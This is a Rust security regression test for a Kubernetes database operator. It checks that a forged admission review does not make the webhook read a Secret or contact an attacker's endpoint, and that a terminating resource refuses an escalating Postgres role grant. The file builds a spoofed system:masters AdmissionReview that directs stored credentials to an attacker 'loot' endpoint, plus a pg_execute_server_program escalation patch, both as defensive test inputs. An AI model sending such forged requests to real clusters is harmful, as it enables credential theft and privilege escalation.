//! The trust boundary (issue 37), tried as an attacker would on the real node:
//! - a forged AdmissionReview sent straight to an operator pod's webhook port (any user info,
//!   naming a Secret and an endpoint of the attacker's) makes the operator read no Secret (the
//!   apiserver's audit log says who read which Secret) and contact no endpoint (a listener);
//! - a DatabaseService being deleted (held by another controller's finalizer) cannot be given an
//!   escalating grant, and the grant is not carried out.

use crate::backups::BRIDGE_ADDRESS;
use crate::environment::{
    admin_client, install_chart, psql_in_instance, real_database, real_namespace, real_node_or_skip,
    try_psql_in_instance, wait_running,
};
use crate::support::operator::RELEASE_NAMESPACE;
use crate::support::{eventually, repository};
use dbservice_operator::api::database_service::DatabaseService;
use dbservice_operator::api::roles::RoleSpec;
use k8s_openapi::api::core::v1::{Pod, Secret};
use kube::api::{DeleteParams, ListParams, Patch, PatchParams, PostParams};
use kube::{Api, ResourceExt};
use serde_json::json;
use std::time::Duration;

/// The Secret the forger names: its key must never leave the cluster.
const STORE_KEYS: &str = "store-keys";

/// The audit log's lines about Secret `name` in `namespace` read by a user whose name starts with `user`.
fn secret_reads(namespace: &str, name: &str, user: &str) -> Vec<String> {
    let log = std::fs::read_to_string(repository().join(".cluster/logs/audit.log")).expect("the apiserver's audit log");
    log.lines()
        .filter_map(|line| serde_json::from_str::<serde_json::Value>(line).ok())
        .filter(|event| {
            let object = &event["objectRef"];
            object["resource"] == "secrets"
                && object["namespace"] == namespace
                && object["name"] == name
                && event["user"]["username"].as_str().is_some_and(|username| username.starts_with(user))
                && event["stage"] == "ResponseComplete"
        })
        .map(|event| event.to_string())
        .collect()
}

/// A review as an attacker writes it: the user is whoever they like.
fn forged_review(namespace: &str, endpoint: &str, operation: &str) -> serde_json::Value {
    let object = json!({
        "apiVersion": "dbservice.dev/v1", "kind": "DatabaseService",
        "metadata": {"name": "forged", "namespace": namespace},
        "spec": {
            "version": "15", "storageSize": "1Gi", "databaseName": "app", "username": "app_user",
            "backup": {"objectStore": {"endpoint": endpoint, "bucket": "loot", "credentialsSecret": {"name": STORE_KEYS}}},
            "bootstrap": {"recovery": {
                "source": {"endpoint": endpoint, "bucket": "loot", "serverName": "victim",
                           "credentialsSecret": {"name": STORE_KEYS}},
                "target": {"time": "2099-01-01T00:00:00Z"},
            }},
        },
    });
    json!({
        "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
        "request": {
            "uid": "00000000-0000-0000-0000-000000000037",
            "kind": {"group": "dbservice.dev", "version": "v1", "kind": "DatabaseService"},
            "resource": {"group": "dbservice.dev", "version": "v1", "resource": "databaseservices"},
            "name": "forged", "namespace": namespace, "operation": operation,
            "userInfo": {"username": "kubernetes-admin", "groups": ["system:masters", "system:authenticated"]},
            "object": object,
            "oldObject": if operation == "UPDATE" { object.clone() } else { serde_json::Value::Null },
            "dryRun": false,
        },
    })
}

#[tokio::test]
async fn a_forged_admission_review_makes_the_operator_read_no_secret_and_contact_no_endpoint() {
    let Some(node) =
        real_node_or_skip("a_forged_admission_review_makes_the_operator_read_no_secret_and_contact_no_endpoint")
    else {
        return;
    };
    install_chart(node);
    let client = admin_client().await;
    let namespace = real_namespace(&client, "forged").await;
    let ns = namespace.name.as_str();
    let secrets: Api<Secret> = Api::namespaced(client.clone(), ns);
    let keys = json!({"metadata": {"name": STORE_KEYS},
                      "stringData": {"accessKeyId": "AKIAVICTIM", "secretAccessKey": "victim-secret-key"}});
    secrets.create(&PostParams::default(), &serde_json::from_value(keys).unwrap()).await.unwrap();
    // The audit log works: the admin's own read shows up.
    secrets.get(STORE_KEYS).await.unwrap();
    eventually("the admin's read of the Secret in the audit log", Duration::from_secs(30), || async {
        (!secret_reads(ns, STORE_KEYS, "").is_empty()).then_some(())
    })
    .await;

    // The attacker's endpoint, reachable from the pods (the node's bridge address).
    let listener = tokio::net::TcpListener::bind((BRIDGE_ADDRESS, 0)).await.unwrap();
    let endpoint = format!("http://{}", listener.local_addr().unwrap());
    let pods: Api<Pod> = Api::namespaced(client.clone(), RELEASE_NAMESPACE);
    let operators =
        pods.list(&ListParams::default().labels("app.kubernetes.io/name=dbservice-operator")).await.unwrap();
    let addresses: Vec<String> = operators.items.iter().filter_map(|pod| pod.status.as_ref()?.pod_ip.clone()).collect();
    assert!(!addresses.is_empty(), "no operator pod has an address");
    // Any client on the pod network can reach the port and complete TLS: the forger need not be
    // the apiserver (this one sends from the node's own network).
    let http =
        reqwest::Client::builder().danger_accept_invalid_certs(true).timeout(Duration::from_secs(15)).build().unwrap();
    for address in &addresses {
        for operation in ["CREATE", "UPDATE"] {
            let response = http
                .post(format!("https://{address}:9443/validate"))
                .json(&forged_review(ns, &endpoint, operation))
                .send()
                .await
                .unwrap_or_else(|error| panic!("the forged review reached {address}: {error}"));
            let status = response.status();
            let answer: serde_json::Value = response.json().await.unwrap();
            assert!(status.is_success(), "{status} {answer}");
            eprintln!("forged {operation} review to {address}: allowed={}", answer["response"]["allowed"]);
        }
    }
    // Before issue 37 the webhook read the Secret and sent a signed listing to the endpoint within
    // its 3 s store check; give it more than twice that.
    let contacted = tokio::time::timeout(Duration::from_secs(8), listener.accept()).await;
    assert!(
        contacted.is_err(),
        "the operator contacted the forger's endpoint: {:?}",
        contacted.map(|c| c.ok().map(|c| c.1))
    );
    // Any account of the operator's namespace (the operator's ServiceAccount).
    let service_account = format!("system:serviceaccount:{RELEASE_NAMESPACE}:");
    let reads = secret_reads(ns, STORE_KEYS, &service_account);
    assert!(reads.is_empty(), "the operator read the named Secret for a forged review: {reads:?}");
}

#[tokio::test]
async fn a_terminating_database_service_takes_no_escalating_grant() {
    let Some(node) = real_node_or_skip("a_terminating_database_service_takes_no_escalating_grant") else {
        return;
    };
    install_chart(node);
    let client = admin_client().await;
    let namespace = real_namespace(&client, "terminating").await;
    let ns = namespace.name.as_str();
    let databases: Api<DatabaseService> = Api::namespaced(client.clone(), ns);
    let mut database = real_database(node, "held", 1, "Retain");
    database.spec.roles = vec![RoleSpec { name: "reporting".into(), ..Default::default() }];
    database.metadata.finalizers = Some(vec!["example.com/hold".into()]);
    databases.create(&PostParams::default(), &database).await.unwrap();
    wait_running(&client, ns, "held", 1, Duration::from_secs(300)).await;
    let member = "SELECT pg_has_role('reporting', 'pg_execute_server_program', 'MEMBER')";
    eventually("the declared role exists", Duration::from_secs(120), || async {
        // The server may restart meanwhile (a poll takes a closed socket for "not yet").
        let count = try_psql_in_instance(ns, "held-0", "SELECT count(*) FROM pg_roles WHERE rolname = 'reporting'")?;
        (count.trim() == "1").then_some(())
    })
    .await;

    databases.delete("held", &DeleteParams::default()).await.unwrap();
    eventually("the operator's cleanup leaves only the other finalizer", Duration::from_secs(120), || async {
        let held = databases.get("held").await.ok()?;
        (held.metadata.deletion_timestamp.is_some() && held.finalizers() == ["example.com/hold"]).then_some(())
    })
    .await;
    let escalate = json!({"spec": {"roles": [{"name": "reporting", "inRoles": ["pg_execute_server_program"]}]}});
    let refused = databases.patch("held", &PatchParams::default(), &Patch::Merge(&escalate)).await;
    let message = format!("{:?}", refused.expect_err("an escalating grant on a terminating object is refused"));
    assert!(message.contains("pg_execute_server_program"), "{message}");
    // Finalizer and label changes stay free while it terminates.
    let labelled = json!({"metadata": {"labels": {"team": "payments"}}});
    databases
        .patch("held", &PatchParams::default(), &Patch::Merge(&labelled))
        .await
        .expect("a label change is admitted");
    // The pod is still there and the grant was not carried out.
    assert_eq!(psql_in_instance(ns, "held-0", member).trim(), "f");
    let release = json!({"metadata": {"finalizers": null}});
    databases.patch("held", &PatchParams::default(), &Patch::Merge(&release)).await.expect("the finalizer can go");
    eventually("the DatabaseService is gone", Duration::from_secs(60), || async {
        databases.get_opt("held").await.ok()?.is_none().then_some(())
    })
    .await;
}
